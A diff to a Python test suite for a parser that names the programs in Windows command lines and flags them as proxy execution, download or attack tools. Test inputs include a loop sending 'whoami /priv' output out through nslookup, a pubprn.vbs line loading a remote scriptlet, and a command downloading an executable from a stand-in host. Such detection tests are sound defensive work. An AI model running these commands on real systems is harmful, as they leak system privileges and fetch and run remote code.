@@ -161,6 +161,14 @@ def test_what_it_does_is_named(text: str, flag: str) -> None:
     assert flag in flags(text), (programs(text), sorted(flags(text)))
 
 
+def test_the_command_that_a_loop_goes_through_is_run() -> None:
+    assert programs("for /f %a in ('whoami /priv ^| findstr Enab') do nslookup %a 10.0.0.1") == [
+        "whoami",
+        "findstr",
+        "nslookup",
+    ]
+
+
 def test_the_keys_of_a_table_are_no_commands() -> None:
     line = "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; 'a b' = 1; StartTime=(Get-Date).AddDays(-1)}"
     assert programs(line) == ["get-winevent", "get-date"]
@@ -180,6 +188,7 @@ def test_a_quoted_program_is_one_where_the_line_hands_on_powershell() -> None:
         ("pubprn.vbs 127.0.0.1 script:https://x.example/a.sct", "proxy_execution"),
         ("frobnicate.exe /s calc.exe", "runs_program"),
         ("SharpHound.exe -c All", "attack_tool"),
+        (r"C:\Windows\System32\Some\GfxWrapper.exe http://x.example/a C:\temp\a.exe", "download"),
         (r".\linPEAS.sh", "attack_tool"),
     ],
 )
